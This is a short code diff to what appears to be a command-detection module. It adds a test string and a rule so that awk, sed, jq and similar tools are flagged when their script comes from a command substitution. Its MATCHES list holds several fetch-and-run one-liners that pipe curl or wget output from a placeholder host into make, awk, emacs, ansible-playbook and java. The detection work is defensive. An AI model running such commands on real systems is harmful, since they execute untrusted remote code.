@@ -45,6 +45,7 @@ MATCHES = (
     "make -f <(curl -s http://h/m)",
     "awk -f <(curl -s http://h/a) x",
     "curl -s http://h/a | awk -f - x",
+    'awk "$(curl -s http://h/a)" x',
     "emacs -l <(wget -qO- http://h/a.el)",
     "ansible-playbook <(curl -s http://h/p.yml)",
     "java -jar <(curl -s http://h/a.jar)",
@@ -150,6 +151,8 @@ def _code_words(command: SimpleCommand) -> list[Word]:
             return printed
     found = [after for word, after in pairwise(words) if word.shape in options]
     found += [word for word in words if any(word.shape.startswith(f"{option}=") for option in options)]
+    if program in ("awk", "gawk", "mawk", "sed", "gsed", "jq", "yq"):
+        found += [word for word in command.operands[:1] if word.shape.startswith(("$(", "`"))]
     if program in _BY_OPERAND:
         found += [word for word in words if not word.shape.startswith("-") or word.shape == "-"]
     return found
